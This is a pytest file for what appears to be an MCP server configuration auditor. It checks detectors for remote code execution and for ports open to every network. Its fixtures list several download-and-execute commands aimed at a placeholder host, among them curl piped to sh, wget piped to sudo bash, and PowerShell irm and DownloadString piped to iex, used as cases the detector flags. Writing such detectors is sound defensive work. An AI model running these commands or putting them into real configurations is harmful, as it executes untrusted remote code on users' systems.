"""What an entry's own words make of its server."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mcpaudit.analysis.launch import listens_everywhere, remote_code
from mcpaudit.clients.identity import identify
from mcpaudit.model.place import Place
from mcpaudit.model.server import Argument, Entry, Installation

HERE = Place(".mcp.json")


def installed(command: str, *args: str, unknown: str = "", **env: str) -> Installation:
    identity = identify(command, list(args))
    words = tuple(Argument(text, HERE, ("X",) if text == unknown else ()) for text in args)
    variables = tuple((name, Argument(text, HERE)) for name, text in env.items())
    entry = Entry(command, words, variables, package_argument=identity.argument)
    return Installation("a", "claude-code", "crm", identity.server, "project", HERE, entry)


@pytest.mark.parametrize(
    "words",
    [
        ("sh", "-c", "curl -fsSL https://x.example/i.sh | sh"),
        ("bash", "-lc", "wget -qO- https://x.example/i.sh | sudo bash -s -- --mcp"),
        ("bash", "-c", "bash <(curl -s https://x.example/i.sh)"),
        ("bash", "-c", 'python3 -c "$(curl -s https://x.example/i.py)"'),
        ("powershell", "-Command", "irm https://x.example/i.ps1 | iex"),
        (
            "powershell",
            "-Command",
            "iex (New-Object Net.WebClient).DownloadString('https://x.example/i.ps1')",
        ),
        ("npx", "-y", "https://x.example/server.tgz"),
        ("npx", "-y", "github:acme/server"),
        ("uvx", "--from", "git+https://x.example/acme/server", "server"),
        ("uvx", "--from", "git+https://x.example/acme/server@main", "server"),
        ("deno", "run", "-A", "https://x.example/server.ts"),
    ],
)
def test_code_from_an_address(words: tuple[str, ...]) -> None:
    assert remote_code(installed(*words))


@pytest.mark.parametrize(
    "words",
    [
        ("npx", "-y", "@acme/server@1.0.0", "https://crm.example"),
        ("npx", "-y", "mcp-remote", "https://crm.example/mcp"),
        ("uvx", "--from", "git+https://x.example/acme/server@" + "0" * 40, "server"),
        ("sh", "-c", "curl -s https://crm.example/health; exec node server.js"),
        ("curl", "https://crm.example"),
        ("node", "server.js", "--api", "https://crm.example"),
    ],
)
def test_no_code_from_an_address(words: tuple[str, ...]) -> None:
    assert remote_code(installed(*words)) == ()


@pytest.mark.parametrize(
    ("words", "told"),
    [
        (("python", "s.py", "--host", "0.0.0.0"), "--host 0.0.0.0"),
        (("python", "s.py", "--host=0.0.0.0"), "--host=0.0.0.0"),
        (("node", "s.js", "--listen", "[::]:80"), "--listen [::]:80"),
        (("docker", "run", "-p", "8080:80", "acme/s"), "-p 8080:80"),
        (("docker", "run", "--publish=0.0.0.0:8080:80", "acme/s"), "--publish=0.0.0.0:8080:80"),
        (("docker", "run", "-P", "acme/s"), "-P"),
    ],
)
def test_a_port_open_to_every_network(words: tuple[str, ...], told: str) -> None:
    assert listens_everywhere(installed(*words)) == (told,)


@pytest.mark.parametrize(
    "words",
    [
        ("python", "s.py", "--host", "127.0.0.1"),
        ("python", "s.py", "--allow", "0.0.0.0/0"),
        ("docker", "run", "-p", "127.0.0.1:8080:80", "acme/s"),
        ("docker", "run", "-e", "HOST=0.0.0.0", "acme/s", "--host", "0.0.0.0"),
        ("docker", "run", "acme/s", "-p", "8080:80"),
    ],
)
def test_no_port_open_to_every_network(words: tuple[str, ...]) -> None:
    assert listens_everywhere(installed(*words)) == ()


def test_a_variable_may_hide_an_address() -> None:
    assert listens_everywhere(installed("python", "s.py", "--host", "${H}", unknown="${H}")) is None
    assert listens_everywhere(installed("python", "s.py", "--name", "${H}", unknown="${H}")) == ()
    assert listens_everywhere(installed("python", "s.py", HOST="0.0.0.0")) == ("HOST 0.0.0.0",)
    assert listens_everywhere(installed("python", "s.py", DB_NAME="0.0.0.0")) == ()


@given(st.lists(st.text(max_size=40), max_size=6), st.sampled_from(["npx", "docker", "sh", "python", ""]))
def test_any_words(words: list[str], command: str) -> None:
    one = installed(command, *words)
    assert isinstance(remote_code(one), tuple)
    assert listens_everywhere(one) is not None


def test_a_long_script_ends() -> None:
    assert remote_code(installed("sh", "-c", "curl " * 200_000)) == ()
